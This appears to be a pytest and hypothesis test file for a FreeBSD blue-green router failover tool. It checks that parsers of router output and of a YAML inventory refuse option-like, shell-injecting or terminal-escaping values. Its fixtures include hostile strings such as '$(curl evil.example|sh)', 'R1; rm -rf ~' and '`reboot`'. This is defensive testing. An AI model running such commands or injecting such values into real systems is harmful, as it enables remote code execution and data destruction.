"""What can never be right is refused where it comes in: with its line, or as an unknown fact."""

import json
import re
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from paramiko import Ed25519Key
from recording import PAYLOADS, hostile
from sshd import make_key

from bluegreen.cli.output import say, tell
from bluegreen.errors import BluegreenError, HostKeyError, ParseError, UsageError
from bluegreen.freebsd.bectl import parse_environments
from bluegreen.freebsd.commands import activate_environment, set_advskew
from bluegreen.freebsd.ifconfig import parse_ifconfig
from bluegreen.freebsd.state import parse_state
from bluegreen.freebsd.version import parse_versions
from bluegreen.model.facts import LocatedVhid
from bluegreen.model.inventory import Inventory, parse_inventory
from bluegreen.model.network import CarpState, CarpVhid
from bluegreen.remote.known_hosts import Trust

UNPRINTABLE = re.compile(r"[\x00-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")
STATE = "/var/log/bluegreen"


def is_safe(word: str) -> bool:
    """No program takes it for an option, no line and no terminal for more than a word."""
    return bool(word) and not word.startswith("-") and not UNPRINTABLE.search(word)


# -- what routers say ----------------------------------------------------------------


def shown(interface: str, peer: str = "192.0.2.12") -> str:
    return (
        f"{interface}: flags=8943<UP,BROADCAST,RUNNING> metric 0 mtu 1500\n"
        "\tinet 192.0.2.1 netmask 0xffffff00 broadcast 192.0.2.255 vhid 1\n"
        f"\tcarp: MASTER vhid 1 advbase 1 advskew 0\n\t      peer {peer} peer6 ff02::12\n"
    )


@settings(deadline=None, max_examples=50)
@given(name=hostile)
@example(name="-a")
@example(name="-l\x1b[2J")
@example(name="vmx0\u202e")
def test_an_interface_whose_name_is_none_is_not_read(name: str) -> None:
    try:
        interfaces = parse_ifconfig(shown(name))
    except ParseError:
        return

    assert all(is_safe(interface.name) for interface in interfaces if interface.name is not None)


@pytest.mark.parametrize("name", ["vmx0", "igb0.20", "wg-office", "e0a_jail", "vlan+20", "tun0/x"])
def test_names_that_people_give_to_interfaces_are_read(name: str) -> None:
    assert [interface.name for interface in parse_ifconfig(shown(name))] == [name]


@settings(deadline=None, max_examples=50)
@given(peer=hostile)
@example(peer="-alias")
@example(peer="$(reboot)")
def test_a_peer_that_is_no_address_is_not_read(peer: str) -> None:
    try:
        interfaces = parse_ifconfig(shown("vmx0", peer))
    except ParseError:
        return

    words = [word for i in interfaces for v in i.carp for _, word in v.unicast_peers]
    assert all(re.fullmatch(r"[0-9a-fA-F.:%\w]+", word) for word in words)


@settings(deadline=None, max_examples=50)
@given(name=hostile)
@example(name="-t")
@example(name="default\x1b[2J")
def test_a_boot_environment_whose_name_is_none_is_not_read(name: str) -> None:
    listed = f"{name}\tNR\t/\t1.2G\t2026-01-01 00:00\n"
    try:
        environments = parse_environments(listed)
    except ParseError:
        return

    assert all(is_safe(environment.name) for environment in environments)


@settings(deadline=None, max_examples=50)
@given(version=hostile)
@example(version="-r")
@example(version="14.2-RELEASE; reboot")
def test_a_version_is_a_version_or_nothing(version: str) -> None:
    try:
        versions = parse_versions(f"{version}\n14.2-RELEASE\n14.2-RELEASE\n")
    except ParseError:
        return

    for found in (versions.kernel, versions.running, versions.userland):
        assert found is None or re.fullmatch(r"\d+\.\d+-[A-Z]+\d*(-p\d+)?", found)


@settings(deadline=None, max_examples=50)
@given(run=hostile)
@example(run="$(curl evil.example|sh)")
@example(run="R1; rm -rf ~")
@example(run="-")
def test_a_lock_names_a_run_that_can_be_typed_or_is_refused(run: str) -> None:
    """Who reads `bluegreen resume RUN` types it: a router must not choose what else they type."""
    printed = f"==> {STATE}/lock\nrun={run}\nowner=o\nhost=h\nsince=s\n"
    try:
        lock = parse_state(STATE, printed, f"{STATE}/lock\n", frozenset()).lock
    except ParseError:
        return

    assert lock is None or re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", lock.run)


@settings(deadline=None, max_examples=50)
@given(run=hostile)
@example(run="`reboot`")
def test_a_hold_names_a_run_that_can_be_typed_or_is_refused(run: str) -> None:
    printed = f"==> {STATE}/hold\nrun={run}\nvmx0 1 0\n"
    try:
        hold = parse_state(STATE, printed, f"{STATE}/hold\n", frozenset()).hold
    except ParseError:
        return

    assert hold is None or re.fullmatch(r"[A-Za-z0-9?][A-Za-z0-9._-]*", hold.run)


@pytest.mark.parametrize("name", ["-a", "", "vmx0\n", "vmx0\x1b[2J"])
def test_no_builder_takes_a_name_that_a_program_would_take_for_more(name: str) -> None:
    """The borders refuse such names; here, it would be a defect of ours."""
    vhid = LocatedVhid(name, CarpVhid(1, CarpState.MASTER, 1, 0))

    with pytest.raises(ValueError, match="no name"):
        set_advskew(vhid, 0)
    with pytest.raises(ValueError, match="no name"):
        activate_environment(name)


def test_what_is_printed_steers_no_terminal_and_stays_json(
    capsys: pytest.CaptureFixture[str],
) -> None:
    said = "motd \x1b]0;title\x07\x9b31m\u202e \udcff\ttab\nline"

    say(json.dumps({"said": said}, ensure_ascii=False))
    tell(str(ParseError(said, "router-001")))

    out, err = capsys.readouterr()
    assert json.loads(out) == {"said": said}
    assert not UNPRINTABLE.search((out + err).replace("\n", "").replace("\t", ""))
    assert "motd \\u001b]0;title\\u0007\\u009b31m\\u202e \\udcff\ttab\nline" in err


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p and "/" not in p])
def test_a_command_that_an_error_has_people_type_is_quoted(tmp_path: Path, payload: str) -> None:
    file = tmp_path / f"known{payload}hosts"
    trust = Trust("router-001", "192.0.2.11", (), file, ("ssh-keyscan", "-p", "22", "192.0.2.11"))

    with pytest.raises(HostKeyError) as caught:
        trust.check(Ed25519Key.from_private_key_file(str(make_key(tmp_path / "key"))))

    typed = caught.value.next_move.split("Only if they are the same: `")[1].removesuffix("`.")
    assert shlex.split(typed) == ["ssh-keyscan", "-p", "22", "192.0.2.11", ">>", str(file)]


# -- what people write ----------------------------------------------------------------

PLACES: dict[str, Callable[[str], str]] = {
    "router": lambda v: f"routers: {{{v}: {{address: a}}, b: {{address: b}}}}",
    "address": lambda v: f"routers: {{a: {{address: {v}}}, b: {{address: b}}}}",
    "user": lambda v: f"routers: {{a: {{address: a, user: {v}}}, b: {{address: b}}}}",
    "identity": lambda v: f"routers: {{a: {{address: a, identity: {v}}}, b: {{address: b}}}}",
    "known_hosts": lambda v: f"routers: {{a: {{address: a, known_hosts: {v}}}, b: {{address: b}}}}",
    "jump": lambda v: f"routers: {{a: {{address: a, jump: {v}}}, b: {{address: b}}}}",
    "state_dir": lambda v: f"routers: {{a: {{address: a, state_dir: {v}}}, b: {{address: b}}}}",
    "pair": lambda v: f"{ROUTERS}\npairs: {{{v}: {{routers: [a, b]}}}}",
    **{
        f"probe {kind}": lambda v, kind=kind: (  # type: ignore[misc]
            f"{ROUTERS}\npairs: {{p: {{routers: [a, b], probes: [{{{kind}: {v}}}]}}}}"
        )
        for kind in ("icmp", "tcp", "flow", "http")
    },
    "via": lambda v: (
        f"{ROUTERS}\npairs: {{p: {{routers: [a, b], probes: [{{icmp: x, via: {v}}}]}}}}"
    ),
    "remote": lambda v: (
        f"{ROUTERS}\npairs: {{p: {{routers: [a, b], remotes: [{{name: {v}, address: c}}]}}}}"
    ),
    "remote address": lambda v: (
        f"{ROUTERS}\npairs: {{p: {{routers: [a, b], remotes: [{{name: c, address: {v}}}]}}}}"
    ),
    "ipfo service": lambda v: (
        f"{ROUTERS}\npairs: {{p: {{routers: [a, b], ipfo: {{provider: ovh, address: 192.0.2.9, "
        f"service: {v}}}}}}}"
    ),
    "interface": lambda v: (
        f"{ROUTERS}\npairs: {{p: {{routers: [a, b], rehearsal: {{vhids: [{{vhid: 1, vip: "
        f"192.0.2.1/24, interface: {v}}}]}}}}}}"
    ),
}
ROUTERS = "routers: {a: {address: a}, b: {address: b}}"


def words_of(inventory: Inventory) -> list[str]:
    """Return every text that the inventory holds, however deep."""

    def texts(value: object) -> list[str]:
        if isinstance(value, str):
            return [value]
        if isinstance(value, tuple | list):
            return [text for part in value for text in texts(part)]
        slots = getattr(value, "__slots__", ())
        return [text for name in slots for text in texts(getattr(value, name))]

    return texts(inventory)


@pytest.mark.parametrize("place", PLACES)
@settings(deadline=None, max_examples=25)
@given(value=hostile)
def test_a_value_of_an_inventory_is_a_safe_word_or_refused_with_its_line(
    place: str, value: str
) -> None:
    text = PLACES[place](json.dumps(value, ensure_ascii=True))
    said = ""
    try:
        inventory = parse_inventory(text, "hosts.yaml", lambda written: f"/etc/{written}")
    except UsageError as error:
        said = str(error)

    if said:
        assert re.search(r"hosts\.yaml:\d+:\d+", said), said
        assert not UNPRINTABLE.search(said.replace("\n", "").replace("\t", "")), repr(said)
    else:
        assert [word for word in words_of(inventory) if not is_safe(word)] == []


@pytest.mark.parametrize("state", ["/srv/originals", "/srv/originals/bluegreen"])
def test_a_state_directory_whose_lock_would_not_be_read_is_refused(state: str) -> None:
    """Our questions leave out `*/originals/*`: a lock there would be there and not be seen."""
    with pytest.raises(UsageError, match=r"hosts\.yaml:1:\d+: .*what lies there is not read"):
        parse_inventory(PLACES["state_dir"](json.dumps(state)), "hosts.yaml")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_words_of_the_command_line_are_refused_in_a_sentence(payload: str) -> None:
    inventory = parse_inventory(ROUTERS, "hosts.yaml")

    with pytest.raises(BluegreenError) as caught:
        inventory.pair(f"a,{payload}")

    assert caught.value.exit_code == 2
